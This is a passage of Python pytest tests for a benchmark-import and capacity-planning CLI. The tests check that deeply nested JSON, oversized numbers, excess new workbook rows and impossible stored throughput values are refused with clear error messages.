        path = tmp_path / f"{case}.json"
        path.write_text(json.dumps(record))
        refused(isolated_data_dir, ("bench", "import", str(path), *flags), f"{case}.json:1",
                words)
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 200_000 + "]" * 200_000)  # RecursionError before
    refused(isolated_data_dir, ("bench", "import", str(deep), *flags), "deep.json:1",
            "nested more than 64 levels")
    digits = tmp_path / "digits.json"
    digits.write_text('{"output_throughput": ' + "9" * 5000 + "}")
    refused(isolated_data_dir, ("bench", "import", str(digits), *flags), "digits.json:1",
            "not JSON a benchmark result holds")
    rows = tmp_path / "rows.csv"
    from planner.io.bench.records import CSV_HEADER

    rows.write_text(",".join(CSV_HEADER) + "\nllama-3-8b,h100-sxm,1,1,1,vllm,bf16,,concurrency,,"
                    f"{2**70},100,100,50,20,,,10,\n")
    refused(isolated_data_dir, ("bench", "import", str(rows)), "rows.csv:2",
            "concurrency 1180591620717411303424 must be a whole number from 1")
    code, out, err = run("bench", "list", "--json")
    assert code == 0 and json.loads(out) == [], (out, err)  # nothing stored, nothing to fit


@pytest.mark.slow
def test_more_new_rows_than_one_workbook_import_creates_is_refused_by_count(
        ws: Workspace, isolated_data_dir: Path, tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    """The new-row bound (:data:`planner.io.xlsx.read_scenarios.MAX_NEW_ROWS`, 250,000: about 2 GB)
    counted exactly, in the first pass over the id and name columns; here set to 3."""
    from planner.io.xlsx import read_scenarios as importer
    from planner.io.xlsx.layout import letters

    ws.new_fleet("f")
    for i in range(4):
        ws.new_scenario("f", f"s{i}", model="llama-3-8b", gpu="h100-sxm")
    path = tmp_path / "r.xlsx"
    ws.export(path, ["f"])
    col = letters("inference")["id"]
    edited = tmp_path / "new.xlsx"
    def no_ids(data: bytes) -> bytes:  # every row's id cell emptied: four new rows
        data, n = re.subn(rf'<c r="{col}([2-9])"[^>]*?(?:/>|>.*?</c>)'.encode(), b"", data)
        assert n == 4
        return data

    _rewrite(path, edited, {"Scenarios": no_ids})
    monkeypatch.setattr(importer, "MAX_NEW_ROWS", 3)
    monkeypatch.setattr(importer, "PRE_COUNT_BYTES", 0)
    with pytest.raises(importer.ImportError_, match=r"Scenarios: 4 new rows \(no id\); one "
                       r"workbook import creates at most 3 .*planner scenario import"):
        ws.import_workbook(edited, dry_run=True)
    monkeypatch.setattr(importer, "MAX_NEW_ROWS", 4)  # four fit: the names are what clash
    with pytest.raises(importer.ImportError_, match="already has a scenario named 's0'"):
        ws.import_workbook(edited, dry_run=True)


def test_calibrate_refuses_an_impossible_run_stored_before_the_bounds(
        isolated_data_dir: Path, tmp_path: Path) -> None:
    import sqlite3

    path = tmp_path / "run.json"
    path.write_text(json.dumps(BENCH_HEAD))
    code, _o, err = run("bench", "import", str(path), "--model", "llama-3-8b", "--gpu",
                        "h100-sxm", "--engine", "vllm")
    assert code == 0, err
    with sqlite3.connect(isolated_data_dir / "planner.db") as db:  # as an old import stored it
        (run_id,) = db.execute("SELECT id FROM measurements").fetchone()
        db.execute("UPDATE measurements SET output_tokens_per_s = 1e308")
    db.close()
    refused(isolated_data_dir, ("calibrate", "--gpu", "h100-sxm", "--engine", "vllm"),
            f"run {run_id} (", "output_tokens_per_s 1e+308 must be above 0",
            f"planner bench delete {run_id}")
